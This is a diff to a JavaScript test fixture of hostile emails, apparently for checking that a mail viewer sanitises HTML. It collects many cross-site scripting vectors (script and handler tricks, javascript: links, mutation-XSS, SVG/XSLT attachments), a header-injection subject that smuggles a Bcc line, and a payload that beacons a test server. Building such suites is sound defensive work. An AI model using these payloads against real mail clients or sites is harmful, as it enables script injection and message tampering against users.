@@ -1,5 +1,6 @@
 // Hostile mails as data: [name, how nodemailer sends it]. `R` stands for the address of a server elsewhere
-// and `J` for a script that calls it, opens a dialog and tries to leave a mark on the page.
+// and `J` for a script that calls it, opens a dialog and tries to leave a mark on the page; it has no space,
+// no quote and no `>`, so that it is whole in an attribute without quotes, too.
 // An element with the id `x` is pressed.
 const inHtml = (rows) => rows.map(([name, html, more = {}]) => [name, { subject: name, text: 'Quiet', html: `<p>Quiet</p>${html}`, ...more }])
 const attached = (rows) => rows.map(([name, file, more = {}]) => [name, { subject: name, text: 'Quiet', html: '<p>Quiet</p>', attachments: [file], ...more }])
@@ -11,11 +12,11 @@ export const SCRIPTS = inHtml([
   ['script from a part of this mail', '<script src="cid:evil@x.example"></script>', { attachments: [{ filename: 'evil.js', content: 'J', contentType: 'text/javascript', cid: 'evil@x.example' }] }],
   ['script in a broken tag', '<scr<script>ipt>J</script><script/x>J</script>'],
   ['script that ends a comment', '<!--><script>J</script>-->'],
-  ['script after a cut-off attribute', '<p title="</p><script>J</script>'],
+  ['script after a cut-off attribute', '<p title="</p><p title=">"<script>J</script>'],
   ['script that ends a style', '<style></style><script>J</script></style>'],
   ['script that ends a textarea and a title', '<textarea></textarea><script>J</script><title></title><script>J</script>'],
   ['noscript that turns into a script', '<noscript><p title="</noscript><script>J</script>">'],
-  ['template and slot', '<template><script>J</script></template><slot onslotchange="J"></slot>'],
+  ['template and slot', '<template><script>J</script></template><div><template shadowrootmode="open"><slot onslotchange="J"></slot></template>x</div>'],
   ['mutation by nested forms', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="J">'],
   ['mutation by noembed', '<noembed><img title="</noembed><img src=x onerror=J>">'],
   ['mutation by xmp and listing', '<xmp><p title="</xmp><img src=x onerror=J>"></xmp><listing>&lt;img src=x onerror=J&gt;</listing>'],
@@ -25,11 +26,11 @@ export const SCRIPTS = inHtml([
 export const HANDLERS = inHtml([
   ['img onerror', '<img src="x" onerror="J">'],
   ['img onerror without quotes', '<img src=x onerror=J>'],
-  ['image with a slash', '<img/src=x/onerror=J>'],
+  ['image with a slash', '<img/src="x"/onerror=J>'],
   ['body onload', '<body onload="J" onpageshow="J" onfocus="J">'],
   ['input autofocus onfocus', '<input autofocus onfocus="J"><select autofocus onfocus="J"></select>'],
   ['details ontoggle', '<details open ontoggle="J">x</details>'],
-  ['marquee onstart', '<marquee onstart="J">x</marquee>'],
+  ['marquee onstart', '<marquee onstart="J" onfinish="J" loop="1" scrollamount="900">x</marquee>'],
   ['video source onerror', '<video><source onerror="J"></video><audio src=x onerror="J"></audio>'],
   ['onclick', '<button id="x" onclick="J">press</button>'],
   ['pointer handlers', '<div id="x" onpointerover="J" onmouseenter="J" onpointerdown="J" style="width:300px;height:300px">x</div>'],
@@ -44,7 +45,7 @@ export const ADDRESSES = inHtml([
   ['javascript: link in disguise', '<a id="x" href=" &#1;java&#9;scri&NewLine;pt&colon;J">press</a>'],
   ['data: link', '<a href="data:text/html,<script>J</script>">press</a>'],
   ['vbscript: and blob: links', '<a href="vbscript:J">a</a><a href="blob:null/x">b</a>'],
-  ['javascript: in an area', '<img usemap="#m" src="cid:none" width="90" height="90"><map name="m"><area shape="rect" coords="0,0,90,90" href="javascript:J"></map>'],
+  ['javascript: in an area', '<img id="x" usemap="#m" src="cid:none" width="90" height="90" alt="x"><map name="m"><area shape="rect" coords="0,0,90,90" href="javascript:J"></map>'],
   ['javascript: as an image, a background and a table', '<img src="javascript:J"><table background="javascript:J"><tr><td background="javascript:J">x</td></tr></table>'],
   ['javascript: as the action of a form', '<form action="javascript:J"><button id="x">press</button></form>'],
   ['form to elsewhere', '<form action="R/form" method="post"><input name="a" value="1"><button id="x">press</button></form>'],
@@ -97,12 +98,16 @@ export const LOADING = inHtml([
 ])
 
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="J"><script>J</script><text y="20">drawn</text></svg>'
+const XSLT =
+  '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE a [<!ATTLIST xsl:stylesheet id ID #IMPLIED>]><a><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>J</script></body></html></xsl:template></xsl:stylesheet></a>'
 const PAGE = '<!doctype html><p>Quiet</p><script>J</script><img src=x onerror="J">'
 export const FILES = attached([
   ['SVG as an attachment', { filename: 'a.svg', content: SVG, contentType: 'image/svg+xml' }],
   ['HTML as an attachment', { filename: 'a.html', content: PAGE, contentType: 'text/html' }],
   ['XHTML and XML as attachments', { filename: 'a.xhtml', content: `<html xmlns="http://www.w3.org/1999/xhtml"><script>J</script></html>`, contentType: 'application/xhtml+xml' }],
-  ['XSLT as an attachment', { filename: 'a.xml', content: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="R/x.xsl"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>J</h:script></a>', contentType: 'text/xml' }],
+  ['XML with a script', { filename: 'a.xml', content: '<?xml version="1.0"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>J</h:script></a>', contentType: 'text/xml' }],
+  ['XSLT as an attachment', { filename: 'a.xml', content: XSLT, contentType: 'text/xml' }],
+  ['XSLT from elsewhere', { filename: 'a.xml', content: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="R/x.xsl"?><a/>', contentType: 'text/xml' }],
   ['HTML that says it is text', { filename: 'a.txt', content: PAGE, contentType: 'text/plain' }],
   ['HTML that says it is an image', { filename: 'a.png', content: PAGE, contentType: 'image/png' }],
   ['HTML without a known type', { filename: 'a.bin', content: PAGE, contentType: 'application/x-unknown' }],
@@ -121,23 +126,40 @@ export const FILES = attached([
 
 const plain = (name, more) => [name, { subject: name, text: 'Quiet', html: '<p>Quiet</p>', ...more }]
 const MARKUP = '<img src=x onerror="J"><script>J</script>'
+export const INJECTION = 'header injection in an encoded word'
+// As bytes: a library that writes mail makes spaces of line ends.
+const injecting = (fill) =>
+  [
+    'From: app@example.com', 'To: ann@example.com', `Subject: =?utf-8?B?${Buffer.from(fill('a\r\nBcc: c@example.com\r\nX-Evil: <script>J</script>')).toString('base64')}?=`,
+    'MIME-Version: 1.0', 'Content-Type: text/html', '', '<p>Quiet</p>', '',
+  ].join('\r\n')
 export const LABELS = [
   plain('subject with markup', { subject: MARKUP }),
   plain('names of people with markup', { from: { name: MARKUP, address: 'a@example.com' }, to: { name: `"${MARKUP}`, address: 'b@example.com' }, replyTo: { name: MARKUP, address: 'c@example.com' } }),
-  plain('address with markup', { envelope: { from: '"<script>"@example.com', to: ['"<img/src=x/onerror=J>"@example.com'] } }),
+  plain('address with markup', { envelope: { from: '"<script>"@example.com', to: ['"<svg/onload=J>"@example.com'] } }),
   plain('header names and values with markup', { headers: { 'X-Markup': MARKUP, 'List-Unsubscribe': '<javascript:J>, <R/unsubscribe>' } }),
-  plain('header injection in an encoded word', { subject: 'a\r\nBcc: c@example.com\r\nX-Evil: <script>J</script>' }),
+  [INJECTION, { envelope: { from: 'app@example.com', to: ['ann@example.com'] }, raw: injecting }],
   plain('text with markup and addresses', { text: `${MARKUP} javascript:J <javascript:J> http://a.example/"onmouseover="J`, html: undefined }),
   plain('date and Message-ID with markup', { messageId: `<${'"'}><script>J</script>@x>`, headers: { Date: MARKUP } }),
 ]
 
 export const ALL = { SCRIPTS, HANDLERS, ADDRESSES, FRAMES, LOADING, FILES, LABELS }
 
-/** The same with `R` and `J` filled in, wherever they stand. */
+/** Rows to which no present Chromium answers, whatever the page is; kept for other browsers and for those to come. */
+export const SPENT = [
+  'marquee onstart', 'data: link', 'vbscript: and blob: links', 'javascript: as an image, a background and a table', 'base of a javascript: address',
+  'meta refresh to javascript:', 'portal and fencedframe', 'SVG image from a data: address', 'MathML link', 'MathML maction', 'CSS expression, behaviour and binding',
+  'XSLT from elsewhere',
+]
+
+/** What `J` stands for. */
+const script = (remote) => `fetch(\`${remote}/ran\`).catch(Date);new/**/Image().src=\`${remote}/ran\`;document.title=\`ran\`;try{top.document.title=\`ran\`}catch{};parent.postMessage(\`ran\`,\`*\`);alert(1)`
+
+/** The same with `R` and `J` filled in, wherever they stand; a function makes of them what it needs. */
 export function armed(mail, remote) {
-  const script = `fetch('${remote}/ran').catch(()=>{});new Image().src='${remote}/ran';document.title='ran';try{top.document.title='ran'}catch{};parent.postMessage('ran','*');alert(1)`
   const fill = (value) => {
-    if (typeof value === 'string') return value.replace(/\bJ\b/g, script.replaceAll('"', "'")).replace(/\bR(?=[/"'); ?#])/g, remote)
+    if (typeof value === 'string') return value.replace(/\bJ\b/g, () => script(remote)).replace(/\bR(?=[/"'); ?#])/g, remote)
+    if (typeof value === 'function') return value(fill)
     if (Array.isArray(value)) return value.map(fill)
     if (value && typeof value === 'object' && !Buffer.isBuffer(value)) return Object.fromEntries(Object.entries(value).map(([name, v]) => [name, fill(v)]))
     return value
